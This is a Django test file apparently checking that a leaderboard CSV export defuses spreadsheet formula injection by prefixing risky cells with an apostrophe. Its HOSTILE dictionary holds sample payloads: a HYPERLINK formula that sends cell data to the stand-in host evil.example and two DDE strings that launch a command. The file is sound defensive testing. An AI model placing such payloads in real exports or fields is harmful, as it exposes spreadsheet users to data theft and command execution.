"""The CSV export neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io

from django.urls import reverse

from ranking.csv_export import safe_cell

CSV_URL = reverse("api-leaderboard-csv", args=["hpc-ai500", "image-classification", "system"])
HOSTILE = {
    "system_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "framework": "+cmd|' /C calc'!A0",
    "accelerator": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_it_writes_formula_cells_as_text(api_client, published) -> None:
    published(**HOSTILE)
    published(system_name="-2+3", framework="\tTab", accelerator="Plain H100")

    rows = list(csv.DictReader(io.StringIO(api_client.get(CSV_URL).content.decode())))

    by_name = {row["system_name"]: row for row in rows}
    hostile = by_name["'" + HOSTILE["system_name"]]
    assert hostile["framework"] == "'" + HOSTILE["framework"]
    assert hostile["accelerator"] == "'" + HOSTILE["accelerator"]
    other = by_name["'-2+3"]
    assert other["framework"] == "'\tTab" and other["accelerator"] == "Plain H100"
    # Numbers stay numbers: only text is prefixed.
    assert float(hostile["score"]) > 0 and not hostile["rank"].startswith("'")
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_it_leaves_plain_text_and_numbers_alone() -> None:
    assert safe_cell("PyTorch 2.4") == "PyTorch 2.4"
    assert safe_cell(-1.5) == -1.5
    assert safe_cell("＝1+1") == "'＝1+1"
